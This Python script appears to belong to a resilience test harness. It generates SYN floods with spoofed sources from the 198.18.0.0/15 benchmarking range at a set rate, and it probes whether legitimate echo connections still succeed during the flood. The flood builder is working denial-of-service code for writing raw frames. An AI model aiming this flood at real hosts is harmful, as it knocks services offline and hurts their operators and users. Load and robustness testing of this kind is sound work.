#!/usr/bin/env python3
"""SYN flood generator and a legitimate-connection prober, for attack_synflood.sh.

  attack_synflood.py flood IFNAME SKIFF_MAC PEER_MAC SKIFF_IP DPORT RATE STATEDIR
      In rounds driven by attack_synflood.sh (STATEDIR/go.N holds how many SYNs to send, 0 ends; we answer
      with STATEDIR/sent.N): builds that many SYNs from random spoofed sources in 198.18.0.0/15 (random
      ports, ISNs, timestamps; the options a Linux client sends) and sends them on IFNAME at RATE frames per
      second (0: back to back). STATEDIR/state says "sending" from the first round on and "done" at the end;
      prints "FLOOD sent=N secs=S rate=PPS".
  attack_synflood.py probe HOST PORT STATEFILE
      While STATEFILE says "sending", opens connections one after another (64 bytes echoed on each, 10 s
      timeout), then prints "PROBE ok=N failed=M max_connect_ms=X"; exits 1 if any failed or none ran.
"""
import os
import random
import socket
import struct
import sys
import time

from attack_lib import Link, csum, eth, fold, ip_bytes, out, tcp_opts


def build(smac, pmac, sip, dport, count, rnd):
    opts = tcp_opts(mss=1460, sack_perm=True, ts=(0, 0), wscale=7)
    tcp_len = 20 + len(opts)
    # Templates with zero in every field that varies (source address, source port, sequence, TSval) and
    # in both checksums; each frame then adds its own words to the precomputed sums (RFC 1624 style).
    ip_t = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, 0, 0x4000, 64, 6, 0, b"\0" * 4, ip_bytes(sip)))
    tcp_t = bytearray(struct.pack("!HHIIBBHHH", 0, dport, 0, 0, (tcp_len // 4) << 4, 0x02, 64240, 0, 0) + opts)
    ip_base = sum(struct.unpack("!10H", bytes(ip_t)))
    tcp_base = sum(struct.unpack("!%dH" % (tcp_len // 2), bytes(tcp_t))) + sum(struct.unpack("!2H", ip_bytes(sip))) + 6 + tcp_len
    head = eth(smac, pmac)
    ts_off = 20 + opts.index(b"\x08\x0a") + 2   # TSval inside the TCP header
    frames = []
    for _ in range(count):
        src = 0xC6120000 | rnd.getrandbits(17)    # 198.18.0.0/15
        sport = rnd.randint(1024, 65535)
        seq = rnd.getrandbits(32)
        tsv = rnd.getrandbits(32)
        s_hi, s_lo = src >> 16, src & 0xFFFF
        ipc = (~fold(ip_base + s_hi + s_lo)) & 0xFFFF
        tcc = (~fold(tcp_base + s_hi + s_lo + sport + (seq >> 16) + (seq & 0xFFFF) + (tsv >> 16) + (tsv & 0xFFFF))) & 0xFFFF
        struct.pack_into("!I", ip_t, 12, src)
        struct.pack_into("!H", ip_t, 10, ipc)
        struct.pack_into("!H", tcp_t, 0, sport)
        struct.pack_into("!I", tcp_t, 4, seq)
        struct.pack_into("!I", tcp_t, ts_off, tsv)
        struct.pack_into("!H", tcp_t, 16, tcc)
        frames.append(head + bytes(ip_t) + bytes(tcp_t))
    # Spot-check the incremental checksums against a full computation.
    f = frames[-1]
    assert csum(f[14:34]) == 0, "IP checksum"
    assert csum(f[26:34] + struct.pack("!BBH", 0, 6, tcp_len) + f[34:]) == 0, "TCP checksum"
    return frames


def set_state(statedir, what):
    """Writes STATEDIR/state atomically (the prober polls it)."""
    tmp = os.path.join(statedir, "state.tmp")
    with open(tmp, "w") as sf:
        sf.write(what + "\n")
    os.replace(tmp, os.path.join(statedir, "state"))


def flood(ifname, smac, pmac, sip, dport, rate, statedir):
    rnd = random.Random(0x5F1)
    link = Link(ifname, recv=False)
    send = link.tx.send
    total, secs, k = 0, 0.0, 0
    while True:
        k += 1
        go = os.path.join(statedir, "go.%d" % k)
        t_end = time.time() + 90
        while not os.path.exists(go) and time.time() < t_end:
            time.sleep(0.01)
        n = int(open(go).read().strip() or 0)
        if n <= 0:
            break
        t0 = time.time()
        frames = build(smac, pmac, sip, dport, n, rnd)
        out("BUILT %d frames in %.2f s" % (n, time.time() - t0))
        set_state(statedir, "sending")
        t0 = time.time()
        if rate <= 0:
            for fr in frames:
                send(fr)
        else:
            batch = 64
            for i in range(0, n, batch):
                for fr in frames[i:i + batch]:
                    send(fr)
                ahead = t0 + (i + batch) / rate - time.time()
                if ahead > 0:
                    time.sleep(ahead)
        secs += time.time() - t0
        total += n
        out("ROUND %d sent=%d" % (k, n))
        open(os.path.join(statedir, "sent.%d" % k), "w").close()
    set_state(statedir, "done")
    out("FLOOD sent=%d secs=%.3f rate=%d" % (total, secs, total / secs if secs > 0 else 0))
    return 0


def probe(host, port, statefile):
    def state():
        try:
            with open(statefile) as sf:
                return sf.read().strip()
        except OSError:
            return ""
    t_end = time.time() + 60
    while state() != "sending" and time.time() < t_end:
        time.sleep(0.005)
    ok = failed = 0
    worst = 0.0
    while state() == "sending" or ok + failed == 0:
        msg = os.urandom(64)
        t0 = time.time()
        try:
            s = socket.create_connection((host, port), timeout=10)
            worst = max(worst, time.time() - t0)
            s.settimeout(10)
            s.sendall(msg)
            back = b""
            while len(back) < len(msg):
                d = s.recv(64 - len(back))
                if not d:
                    break
                back += d
            s.close()
            if back == msg:
                ok += 1
            else:
                failed += 1
                out("probe: echo mismatch (%d bytes back)" % len(back))
        except OSError as e:
            failed += 1
            out("probe: %s" % e)
        if time.time() > t_end:
            break
    out("PROBE ok=%d failed=%d max_connect_ms=%.1f" % (ok, failed, worst * 1000))
    return 0 if ok > 0 and failed == 0 else 1


if __name__ == "__main__":
    a = sys.argv[1:]
    if a and a[0] == "flood" and len(a) == 8:
        sys.exit(flood(a[1], a[2], a[3], a[4], int(a[5]), int(a[6]), a[7]))
    if a and a[0] == "probe" and len(a) == 4:
        sys.exit(probe(a[1], int(a[2]), a[3]))
    print(__doc__, file=sys.stderr)
    sys.exit(2)
